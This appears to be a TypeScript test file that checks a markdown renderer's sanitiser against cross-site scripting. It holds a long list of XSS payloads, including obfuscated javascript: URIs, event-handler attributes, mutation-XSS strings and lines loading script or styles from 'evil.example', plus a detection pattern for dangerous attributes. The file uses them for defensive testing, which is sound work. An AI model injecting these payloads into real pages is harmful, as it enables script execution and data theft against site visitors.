import type { Nodes } from 'hast';
import { describe, expect, test } from 'vitest';
import { finished } from './finish.ts';
import { readContent } from './read-content.ts';

const targets = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'view-source:x',
  'livescript:x',
  'blob:https://example.com/x',
];
/** Where an address can be written. */
const places = [
  (url: string) => `[x](${url})`,
  (url: string) => `[x](<${url}>)`,
  (url: string) => `![x](${url})`,
  (url: string) => `[x]\n\n[x]: ${url}`,
  (url: string) => `<${url}>`,
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a href='${url}'>x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) =>
    `<picture><source srcset="${url}" media="(prefers-color-scheme: dark)"><img src="${url}"></picture>`,
  (url: string) => `{% embed url="${url}" %}`,
  (url: string) => `{% file src="${url}" %}`,
  (url: string) => `{% content-ref url="${url}" %}\n[x](${url})\n{% endcontent-ref %}`,
  (url: string) =>
    `<table data-view="cards"><thead><tr><th></th><th data-card-target></th><th data-card-cover></th></tr></thead><tbody><tr><td>x</td><td><a href="${url}">x</a></td><td><img src="${url}"></td></tr></tbody></table>`,
];
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`` `onerror=alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div onclick="alert(1)">x</div>',
  '<a href="x" onmouseover="alert(1)">x</a>',
  '<a href="x" target="_blank" ping="https://evil.example">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<a id="__proto__" name="constructor">x</a>',
];
/** Where markup can be written. */
const holders = [
  (markup: string) => markup,
  (markup: string) => `Words ${markup} words`,
  (markup: string) => `{% hint style="info" onclick="x" %}\n${markup}\n{% endhint %}`,
  (markup: string) =>
    `{% tabs %}\n{% tab title="${markup.replaceAll('"', '\\"')}" %}\nx\n{% endtab %}\n{% endtabs %}`,
  (markup: string) =>
    `{% code title='${markup.replaceAll("'", '')}' %}\n\`\`\`${markup.replaceAll('`', '')}\n${markup}\n\`\`\`\n{% endcode %}`,
  (markup: string) => `<details>\n\n<summary>${markup}</summary>\n\n${markup}\n\n</details>`,
  (markup: string) => `$$${markup}$$\n\n$$\n\\text{${markup}}\n\\href{javascript:alert(1)}{x}\n$$`,
  (markup: string) => `| a |\n| - |\n| ${markup} |`,
  (markup: string) => `## ${markup}`,
];

const elements = new Set(
  'script iframe object embed form button base meta link style textarea template video source noscript marquee'.split(
    ' ',
  ),
);

/** What of a tree could run, or reach another site unasked. */
function dangers(node: Nodes): string[] {
  if (!('children' in node)) return [];
  const own = node.type === 'element' ? dangersOf(node) : [];
  return [...own, ...node.children.flatMap(dangers)];
}

function dangersOf({ tagName, properties }: Extract<Nodes, { type: 'element' }>): string[] {
  const bad = elements.has(tagName) ? [tagName] : [];
  for (const [name, value] of Object.entries(properties)) {
    if (/^(on|style|srcDoc|action|formAction|target|ping|background|xLink)/.test(name))
      bad.push(name);
    const isAddress = ['href', 'src', 'dataEmbed'].includes(name);
    if (isAddress && /^[^/?#]*:/.test(String(value)) && !/^(https?|mailto):/.test(String(value)))
      bad.push(`${name}=${value}`);
  }
  return bad;
}

const dangersIn = async (markdown: string) => {
  const { tree } = readContent(markdown);
  return dangers((await finished(tree)).tree);
};

describe('a text that other people wrote is safe', () => {
  test(`${places.length * targets.length} addresses that could run have no target`, async () => {
    for (const place of places)
      for (const target of targets)
        expect(await dangersIn(place(target)), place(target)).toEqual([]);
  });

  test(`${holders.length * payloads.length} kinds of markup run nothing`, async () => {
    for (const holder of holders)
      for (const payload of payloads)
        expect(await dangersIn(holder(payload)), holder(payload)).toEqual([]);
  });

  test('targets from any link resolver aren’t trusted either', () => {
    const resolveLink = () => ({ href: 'javascript:alert(1)' });
    const { tree } = readContent('[x](a) ![x](b)\n\n{% embed url="c" %}', { resolveLink });
    expect(dangers(tree)).toEqual([]);
  });
});
